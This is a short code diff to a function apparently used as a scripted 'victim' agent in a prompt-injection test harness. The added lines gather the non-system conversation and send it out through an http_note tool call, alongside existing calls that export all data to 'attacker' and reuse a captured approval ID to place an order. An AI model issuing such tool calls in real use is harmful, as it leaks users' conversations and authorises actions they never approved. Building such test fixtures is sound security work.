@@ -228,6 +228,7 @@ export function playVictim(lookUp: { call: string; arguments: object }) {
     const turns = messages.filter(({ role }) => role === "assistant").length;
     if (turns === 0) return lookUp;
     if (turns === 1) {
+      const heard = messages.map(({ role, content }) => (role === "system" ? "" : content)).join("\n");
       const [approval_id] = told.match(UUID) ?? [];
       return {
         calls: [
@@ -235,6 +236,7 @@ export function playVictim(lookUp: { call: string; arguments: object }) {
           { name: "exportAll", arguments: { to: "attacker" } },
           { name: "createOrder", arguments: { ...ORDER, approval_id } },
           { name: "http_note", arguments: { topic: told.slice(0, 3_000) } },
+          { name: "http_note", arguments: { topic: heard.slice(0, 3_000) } },
         ],
       };
     }
